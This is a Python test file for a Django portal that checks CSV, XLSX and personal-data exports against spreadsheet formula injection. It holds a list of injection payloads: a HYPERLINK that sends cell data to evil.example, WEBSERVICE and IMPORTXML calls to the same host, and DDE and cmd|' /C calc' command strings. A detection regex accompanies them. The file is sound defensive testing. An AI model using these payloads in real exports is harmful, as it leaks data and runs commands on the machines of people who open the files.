"""What begins like a formula stays a text in every table that leaves the portal, read back as a spreadsheet would."""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.db import DatabaseError, models, transaction
from django.urls import reverse
from openpyxl import load_workbook

from directory.roles import Role
from records.models import Office
from records.personal_data import packed
from records.reports import reports
from records.spreadsheets import read
from records.text import clean_line
from tests.factories.agreements import ActivityFactory, AgreementFactory
from tests.factories.programs import ApplicationFactory
from tests.house.ours import MODELS
from tests.house.test_admin import ADMINS, address, make
from tests.pages import body

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"more")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    '=DDE("soffice","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    "=1+1\n=2+2",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "=١+١",
]
# What a spreadsheet program takes for a formula where a cell begins with it.
ACTIVE = re.compile(r"[\s\u00a0\u200b-\u200f\u202a-\u202e\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
HARMLESS = re.compile(r"-?\d*(\.\d+)?")
LISTS = ["agreements:list", "directory:institution_list", "exchanges:list", "memberships:list", "networks:list"]
LONG_AGO = dt.date(2010, 1, 1)
STAFF = (Role.OFFICER, Role.ADMINISTRATOR, Role.DIRECTOR, Role.AUDITOR)


def planted(text):
    """The text as the beginning of every free text column of every row; how many columns took it."""
    count = 0
    for model in MODELS:
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField) and not field.generated
            if (
                not is_text
                or field.name in {"password", "time_zone"}
                or field.choices
                or (field.max_length or 999) < len(text) + 20
            ):
                continue
            for pk in model._base_manager.values_list("pk", flat=True):
                try:
                    with transaction.atomic():
                        model._base_manager.filter(pk=pk).update(**{field.name: f"{text} {field.name} {pk}"})
                    count += 1
                except (DatabaseError, ValidationError, ValueError):
                    continue  # the database holds it to a form of its own
    Office.forget()
    return count


def tabled():
    """The reports that are tables too."""
    return [report for report in reports if report.table]


def tables(client):
    """(address, format, bytes) of every table that may be taken away."""
    paths = [(f"{reverse(name)}?format={form}", form) for name in LISTS for form in ("csv", "xlsx")]
    paths += [
        (f"{reverse('records:report', args=[one.slug])}?format={form}", form)
        for one in tabled()
        for form in ("csv", "xlsx")
    ]
    paths += [
        (address(name, "export", form), form)
        for name in ADMINS
        if hasattr(ADMINS[name], "export_view")
        for form in ("csv", "xlsx")
    ]
    for path, form in paths:
        response = client.get(path)
        if response.status_code == 200:
            yield path, form, body(response)


def cells(form, data):
    """The cells as a spreadsheet program sees them: (what is in it, whether it would be worked out)."""
    if form == "csv":
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            yield from ((cell, bool(ACTIVE.match(cell)) and not HARMLESS.fullmatch(cell)) for cell in row)
    else:
        for row in load_workbook(io.BytesIO(data)).active.iter_rows():
            yield from ((cell.value, cell.data_type == "f") for cell in row)


def active(form, data):
    return [value for value, is_active in cells(form, data) if is_active]


def hold(form, data, text):
    """Whether the text is in the table, as it was before it left; as an import reads it."""
    wanted = clean_line(text)
    return any(
        clean_line(str(value)).startswith(wanted) for row in read(data, form).rows for value in row.values.values()
    )


def exported(client, text):
    """{table: what is wrong}, and how many tables held the text."""
    assert planted(text) > 20
    wrong, held = {}, 0
    for path, form, data in tables(client):
        if found := active(form, data):
            wrong[path] = found
        held += hold(form, data, text)
    return wrong, held


@pytest.fixture
def shelf(as_user, client):
    user = as_user(*STAFF)
    AgreementFactory(concluded=True, public=True)
    dormant = AgreementFactory(concluded=True, signed_on=LONG_AGO, term__starts_on=LONG_AGO)
    ActivityFactory(agreement=dormant, happened_on=LONG_AGO)
    ApplicationFactory(filled=True, submitted=True)
    for name in ADMINS:
        if not ADMINS[name].model._base_manager.exists():
            make(name)
    return user


def test_a_formula_is_a_text_in_every_table_that_is_taken_away(shelf, client):
    wrong, held = exported(client, FORMULAS[0])

    assert wrong == {}
    # Staff lists of agreements, applications, earlier awards, memberships, members and stays; figures hold no text, and
    # the sector's report none before a round is published.
    assert held == 2 * (len(LISTS) + len(tabled()) - 2 + 6)


@pytest.mark.slow
@pytest.mark.parametrize("text", FORMULAS[1:])
def test_every_formula_is_a_text_in_every_table_that_is_taken_away(text, shelf, client):
    assert exported(client, text)[0] == {}


@pytest.mark.parametrize(
    "text", [*FORMULAS[:3], *(pytest.param(text, marks=pytest.mark.slow) for text in FORMULAS[3:])]
)
def test_a_formula_is_a_text_in_the_own_data(text, shelf):
    planted(text)

    with zipfile.ZipFile(io.BytesIO(packed(type(shelf).objects.get(pk=shelf.pk)))) as packet:
        papers = {name: packet.read(name) for name in packet.namelist() if name.endswith(".csv")}

    assert papers
    assert {name: active("csv", data) for name, data in papers.items() if active("csv", data)} == {}


def test_a_formula_that_would_be_worked_out_is_found():
    """The negative control: the same cells written by somebody who knows of no formulas."""
    written = io.StringIO()
    csv.writer(written).writerows([[text] for text in FORMULAS])

    found = active("csv", written.getvalue().encode())

    assert {'"=1+1"', ";=1+1", ",=1+1", "%0A=1+1", "'=1+1"} == set(FORMULAS) - set(found)
